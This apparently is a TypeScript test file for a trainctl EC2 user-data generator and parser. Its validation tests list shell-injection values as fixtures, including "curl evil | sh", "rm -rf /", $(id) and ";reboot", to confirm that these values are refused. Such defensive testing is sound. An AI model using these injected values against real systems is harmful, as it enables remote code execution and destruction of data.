import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { ZodError } from 'zod';
import {
  generateUserData,
  parseUserData,
  encodeUserData,
  UserDataTooLargeError,
  USER_DATA_MARKER,
  USER_DATA_MAX_BYTES,
  type BootstrapParamsInput,
} from '../src/run/user-data.js';

const base: BootstrapParamsInput = {
  version: '0.1.0',
  root: '/opt/trainctl/root',
  temporalAddress: 'temporal.example.internal:7233',
  temporalNamespace: 'ml-prod.a1b2c',
  taskQueue: 'trainctl',
  region: 'eu-west-1',
};

test('generated user-data parses back to the same parameters', () => {
  for (const input of [
    base,
    {
      ...base,
      version: undefined,
      tarballUrl: 'https://downloads.example.com/trainctl-0.2.0.tgz?sig=a%2Bb&x=1',
      temporalTls: true,
      apiKeySsmParameter: '/trainctl/temporal-api-key',
      nodeVersion: '24.1.0',
    },
    { ...base, temporalTls: false, apiKeyFile: '/etc/trainctl/api-key' },
  ]) {
    const text = generateUserData(input);
    assert.ok(text.startsWith(`#!/bin/bash\n${USER_DATA_MARKER}\n`));
    const parsed = parseUserData(text);
    const expected = Object.fromEntries(Object.entries({ nodeVersion: '22.12.0', ...input }).filter(([, v]) => v !== undefined));
    assert.deepEqual(parsed, expected);
    assert.deepEqual(parseUserData(Buffer.from(encodeUserData(text), 'base64').toString('utf8')), expected);
  }
});

test('the script is valid bash, reads the instance id from IMDSv2 and starts the host worker, and holds no secret', () => {
  const text = generateUserData({ ...base, apiKeySsmParameter: '/trainctl/key' });
  execFileSync('bash', ['-n'], { input: text });
  assert.match(text, /curl -fsS --retry 5 -X PUT "\$IMDS\/api\/token"/);
  assert.match(text, /meta-data\/instance-id/);
  assert.match(text, /trainctl worker --host \$\{INSTANCE_ID\} --root \$\{TRAINCTL_ROOT\}/);
  assert.match(text, /KillMode=process/);
  assert.match(text, /TEMPORAL_API_KEY_SSM_PARAMETER='\/trainctl\/key'/);
  assert.doesNotMatch(text, /TEMPORAL_API_KEY='/, 'the key itself is never a parameter');
  assert.throws(() => generateUserData({ ...base, temporalApiKey: 'secret' } as BootstrapParamsInput), ZodError);
});

test('values with newlines, quotes or shell metacharacters are refused, naming the field', () => {
  const bad: [keyof BootstrapParamsInput, string][] = [
    ['root', "/opt/x'; curl evil | sh; '"],
    ['root', '/opt/x\nrm -rf /'],
    ['root', '/opt/../etc'],
    ['root', 'relative/path'],
    ['temporalNamespace', 'ns$(id)'],
    ['temporalNamespace', 'ns`id`'],
    ['taskQueue', 'q;reboot'],
    ['temporalAddress', 'host:7233 && reboot'],
    ['region', 'us-east-1\n'],
    ['tarballUrl', "https://x.example/a.tgz'$(id)'"],
    ['tarballUrl', 'http://insecure.example/a.tgz'],
    ['apiKeySsmParameter', 'name with space'],
    ['apiKeyFile', '/etc/key;id'],
    ['version', '1.0.0 || true'],
    ['nodeVersion', '20.1.0'],
  ];
  for (const [field, value] of bad) {
    const input = { ...base, ...(field === 'tarballUrl' ? { version: undefined } : {}), [field]: value };
    assert.throws(
      () => generateUserData(input),
      (err: unknown) => err instanceof ZodError && err.issues.some((i) => i.path[0] === field),
      `${field}=${JSON.stringify(value)}`,
    );
  }
  assert.throws(() => generateUserData({ ...base, tarballUrl: 'https://x.example/a.tgz' }), ZodError, 'version and tarballUrl together');
});

test("user-data that is not trainctl's bootstrap parses to undefined", () => {
  const good = generateUserData(base);
  for (const foreign of [
    '',
    '#!/bin/bash\necho hello\n',
    '#cloud-config\npackages: [htop]\n',
    `#!/bin/bash\n# some other tool\n${good.split('\n').slice(2).join('\n')}`,
    good.replace("TRAINCTL_ROOT='/opt/trainctl/root'", "TRAINCTL_ROOT='/opt/x'; id; '"),
    good.replace("AWS_REGION='eu-west-1'", "AWS_REGION='nowhere'"),
    good.replace(/# --- end of trainctl parameters ---/, ''),
    good.replace("TEMPORAL_NAMESPACE='ml-prod.a1b2c'", "TEMPORAL_NAMESPACE='ml-prod.a1b2c'\nEXTRA=$(id)"),
  ]) {
    assert.equal(parseUserData(foreign), undefined, foreign.slice(0, 80));
  }
});

test('user-data stays under the EC2 limit of 16 KB, and anything larger is not recognised', () => {
  const text = generateUserData({
    ...base,
    version: undefined,
    tarballUrl: `https://downloads.example.com/${'a'.repeat(2000)}.tgz`,
    root: `/${'r'.repeat(2000)}`,
  });
  assert.ok(Buffer.byteLength(text) <= USER_DATA_MAX_BYTES);
  assert.equal(USER_DATA_MAX_BYTES, 16384);
  assert.equal(parseUserData(text + '#'.repeat(USER_DATA_MAX_BYTES)), undefined);
  assert.throws(() => generateUserData({ ...base, root: `/${'r'.repeat(USER_DATA_MAX_BYTES)}` }), UserDataTooLargeError);
});
